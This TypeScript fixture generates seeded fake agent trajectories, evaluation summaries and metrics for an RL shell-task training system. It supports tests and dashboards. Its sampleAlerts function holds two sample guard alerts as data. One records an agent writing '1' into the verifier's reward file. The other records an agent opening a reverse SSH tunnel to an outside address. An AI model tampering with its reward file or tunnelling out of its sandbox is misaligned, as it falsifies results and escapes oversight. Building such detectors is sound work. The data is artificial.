/** Plausible made-up trajectories and runs, the same ones for the same seed: for tests, benchmarks and looking at pages. */

import type { Alert } from "../src/core/alerts.ts";
import type { EvaluationSummary } from "../src/core/events.ts";
import { Rng } from "../src/core/rng.ts";
import { wilsonInterval } from "../src/core/statistics.ts";
import type { Split, StopReason, Trajectory, Turn } from "../src/core/types.ts";
import type { Store } from "../src/store/store.ts";

export const SAMPLE_FAMILIES = ["count-lines", "find-largest", "move-files", "sum-column", "fix-mode", "rename-ext"];

const COMMANDS = ["ls -la", "cat notes.txt", "wc -l data.csv", "sort -n a | tail -1", "mv *.log old/", "chmod 644 run"];

export interface SampleTrajectory {
  readonly id: string;
  readonly group: string;
  readonly member: number;
  readonly family: string;
  readonly split: Split;
  readonly seed: number;
  readonly solved: boolean;
  readonly version: number;
  readonly turns?: number;
  readonly tokensPerTurn?: number;
}

/** A trajectory whose every field has a value worth checking. */
export function sampleTrajectory(options: SampleTrajectory, rng = new Rng(options.id)): Trajectory {
  const count = options.turns ?? rng.int(1, 4);
  const perTurn = options.tokensPerTurn ?? rng.int(8, 24);
  const length = 12 + count * perTurn * 2;
  const mask = new Uint8Array(length);
  const turnIds = new Int32Array(length).fill(-1);
  for (let turn = 0; turn < count; turn++) {
    const start = 12 + turn * perTurn * 2;
    mask.fill(1, start, start + perTurn);
    turnIds.fill(turn, start, start + perTurn);
  }
  const logprobs = new Float32Array(length).map((_, i) => (mask[i] === 1 ? Math.log(rng.next() * 0.9 + 0.1) : 0));
  const failure = rng.pick<StopReason>(["turns", "format", "length", "done", "command_timeout"]);
  return {
    episodeId: options.id,
    groupId: options.group,
    taskId: `shell/${options.family}/${options.split}/${options.seed}`,
    family: options.family,
    split: options.split,
    seed: options.seed,
    member: options.member,
    tokens: {
      ids: new Int32Array(length).map(() => rng.int(0, 511)),
      mask,
      logprobs,
      logprobsT1: logprobs.map((value) => value * 1.01),
      versions: new Int32Array(length).fill(options.version),
      kvOldest: new Int32Array(length).fill(options.version),
      turnIds,
    },
    turns: Array.from({ length: count }, (_, index) => sampleTurn(index, rng)),
    reward: options.solved ? 1 : 0,
    stopReason: options.solved ? "done" : failure,
    ...(failure === "command_timeout" && !options.solved ? { error: "command passed its limit of 2 s" } : {}),
    isolation: "root+mount+pid+net+cgroup2",
    grading: "clean",
    // Every ninth instance's first attempt, so that others differ in nothing from before there were guards.
    ...(options.split === "train" &&
      options.member === 0 &&
      options.seed % 9 === 4 && { alerts: sampleAlerts(options) }),
    startedAt: 1_795_000_000_000 + options.seed,
    phases: {
      reset: 2 + rng.next() * 4,
      generate: 200 + rng.next() * 300,
      tool: 10 + rng.next() * 80,
      grade: 8 + rng.next() * 9,
    },
  };
}

function sampleAlerts({ seed }: SampleTrajectory): Alert[] {
  const at = 1_795_000_000_000 + seed;
  const tunnel = "ssh -R forwards: ssh -N -R 8022:localhost:22 u@203.0.113.9";
  const planted = "writes to /logs/verifier/reward.txt: echo 1 > /logs/verifier/reward.txt";
  return [
    { kind: "protected_write", at, turn: 0, evidence: planted, action: "alert" },
    ...(seed % 2 === 0 ? [{ kind: "tunnel", at: at + 900, turn: 1, evidence: tunnel, action: "stop" } as const] : []),
  ];
}

function sampleTurn(index: number, rng: Rng): Turn {
  const startedMs = index * 150;
  return {
    index,
    command: rng.pick(COMMANDS),
    observation: index % 2 === 0 ? `${rng.int(1, 900)} data.csv\n` : "",
    exitCode: rng.next() < 0.9 ? 0 : rng.pick([1, 2, 127, null]),
    startedMs,
    generatedMs: startedMs + 100 + rng.next() * 20,
    observedMs: startedMs + 130 + rng.next() * 15,
  };
}

/** Success after `step`: an S-curve like those of the shell suite. */
export function sampleRate(step: number, steps: number, start = 0.42, end = 0.94): number {
  return start + (end - start) * (1 - Math.exp((-3.2 * step) / Math.max(1, steps)));
}

export interface SampleRun {
  readonly name?: string;
  readonly seed?: number;
  readonly steps: number;
  readonly groups?: number;
  readonly groupSize?: number;
  readonly evaluations?: number;
  readonly outDir?: string;
  /** Steps to commit; all by default. */
  readonly until?: number;
  /** What agents write instead of ordinary commands, to test escaping. */
  readonly hostile?: string;
}

/** Writes a whole run as the training loop does and returns its id. */
export async function writeSampleRun(store: Store, options: SampleRun): Promise<string> {
  const { steps, groups = 4, groupSize = 4, seed = 1, name = "shell" } = options;
  const rng = new Rng(`sample/${name}/${seed}`);
  const runId = await store.createRun({
    name,
    algorithm: "grpo",
    seed,
    configToml: `name = "${name}"\nseed = ${seed}\n\n[trainer]\nsteps = ${steps}\nparityLimit = 1e-4\n`,
    configHash: Bun.hash(`${name}/${seed}/${steps}`).toString(16),
    outDir: options.outDir ?? `/runs/${name}-${seed}`,
    isolation: "root+mount+pid+net+cgroup2",
    steps,
    aleVersion: "0.1.0",
  });
  const evaluateEvery = Math.max(1, Math.round(steps / (options.evaluations ?? 5)));
  for (let step = 0; step <= (options.until ?? steps); step++) {
    const rate = sampleRate(step, steps);
    const plan = { runId, step, steps, groups, groupSize, rate, rng };
    if (step > 0) await store.writeEpisodes(runId, step, "train", trainingEpisodes(plan, options.hostile));
    const due = step === 0 || step === steps || step % evaluateEvery === 0;
    const evaluations = due ? sampleEvaluations(step, steps, rng) : [];
    if (due) {
      const some = SAMPLE_FAMILIES.flatMap((family, i) => evaluationEpisodes(plan, family, i, options.hostile));
      await store.writeEpisodes(runId, step, "eval", some);
    }
    const metrics = step === 0 ? {} : sampleMetrics(step, steps, rate, rng);
    await store.commitStep(runId, step, {
      metrics,
      weightVersion: step,
      wallSeconds: step * 4.2,
      evaluations,
      state: { sampler: step * groups },
      checkpoint: { path: `checkpoints/step-${String(step).padStart(6, "0")}` },
      prunedCheckpoints: step >= 2 ? [step - 2] : [],
    });
  }
  if (options.until === undefined) await store.endRun(runId, "finished");
  return runId;
}

interface StepPlan {
  readonly runId: string;
  readonly step: number;
  readonly groups: number;
  readonly groupSize: number;
  readonly rate: number;
  readonly rng: Rng;
}

function trainingEpisodes(plan: StepPlan, hostile?: string): Trajectory[] {
  const { runId, step, groups, groupSize, rate, rng } = plan;
  return Array.from({ length: groups * groupSize }, (_, i) => {
    const g = Math.floor(i / groupSize);
    const member = i % groupSize;
    const group = `${runId}/train/${step}/${g}`;
    const family = SAMPLE_FAMILIES[(step * groups + g) % SAMPLE_FAMILIES.length] as string;
    const solved = rng.next() < rate;
    const seed = step * groups + g;
    const made = sampleTrajectory({
      id: `${group}/${member}`,
      group,
      member,
      family,
      split: "train",
      seed,
      solved,
      version: step - 1,
    });
    return hostile === undefined ? made : poison(made, hostile);
  });
}

function evaluationEpisodes(plan: StepPlan, family: string, index: number, hostile?: string): Trajectory[] {
  const { runId, step, rate, rng } = plan;
  return Array.from({ length: 2 }, (_, i) => {
    const group = `${runId}/heldout/${step}/${index * 2 + i}`;
    const solved = rng.next() < rate;
    const seed = index * 2 + i;
    const made = sampleTrajectory({
      id: `${group}/0`,
      group,
      member: 0,
      family,
      split: "heldout",
      seed,
      solved,
      version: step,
    });
    return hostile === undefined ? made : poison(made, hostile);
  });
}

function poison(trajectory: Trajectory, text: string): Trajectory {
  return { ...trajectory, turns: trajectory.turns.map((turn) => ({ ...turn, command: text, observation: text })) };
}

function sampleEvaluations(step: number, steps: number, rng: Rng): EvaluationSummary[] {
  const kinds: readonly { split: Split; greedy: boolean; n: number; lift: number }[] = [
    { split: "dev", greedy: false, n: 210, lift: 0.01 },
    { split: "heldout", greedy: false, n: 420, lift: 0 },
    { split: "heldout", greedy: true, n: 420, lift: 0.05 },
  ];
  return kinds.map(({ split, greedy, n, lift }) => {
    const expected = Math.min(0.99, sampleRate(step, steps) + lift + (rng.next() - 0.5) * 0.03);
    const solved = Math.round(expected * n);
    const share = n / SAMPLE_FAMILIES.length;
    const perFamily = Object.fromEntries(
      SAMPLE_FAMILIES.map((family, i) => [
        family,
        { rate: Math.max(0, Math.min(1, expected + 0.12 * Math.sin(i * 2.1) * (1 - expected))), n: share },
      ]),
    );
    return { step, split, greedy, rate: solved / n, n, ...wilsonInterval(solved, n), perFamily };
  });
}

function sampleMetrics(step: number, steps: number, rate: number, rng: Rng): Record<string, number> {
  const noise = () => (rng.next() - 0.5) * 0.08;
  return {
    "critic/rewards/mean": Math.max(0, Math.min(1, rate + noise())),
    reward_std: 0.3 * (1 - rate) + 0.05,
    frac_reward_zero_std: 0.3 + 0.4 * rate + noise(),
    "response_length/mean": 34 - 6 * rate + noise() * 20,
    "sequence_length/mean": 120 - 15 * rate + noise() * 40,
    "num_turns/mean": 2.2 - 0.5 * rate + noise(),
    "stop/done": 0.8 + 0.15 * rate,
    "stop/turns": 0.2 - 0.15 * rate,
    "actor/pg_loss": noise() * 0.1,
    "actor/entropy": 1.1 * Math.exp((-2 * step) / steps) + 0.12,
    "actor/grad_norm": 0.5 + rng.next() * 0.4,
    "actor/pg_clipfrac": 0.02 + rng.next() * 0.03,
    "actor/ppo_kl": 0.001 + rng.next() * 0.002,
    "actor/lr": 3e-4 * Math.max(0.1, 1 - step / steps),
    "actor/updates": 2,
    "rollout_corr/logprob_abs_diff_max": 4e-6 + rng.next() * 6e-6,
    "timing_s/gen": 2.6 + rng.next() * 0.5,
    "timing_s/update_actor": 1.3 + rng.next() * 0.2,
    "timing_s/step": 4.1 + rng.next() * 0.5,
    "timing_s/episodes/reset": 1.2 + rng.next(),
    "timing_s/episodes/generate": 80 + rng.next() * 9,
    "timing_s/episodes/tool": 9 + rng.next() * 2,
    "timing_s/episodes/grade": 4 + rng.next() * 2,
    "perf/total_num_tokens": 30000,
    "perf/throughput": 7000 + rng.next() * 600,
    "perf/episodes_per_second": 60 + rng.next() * 5,
  };
}
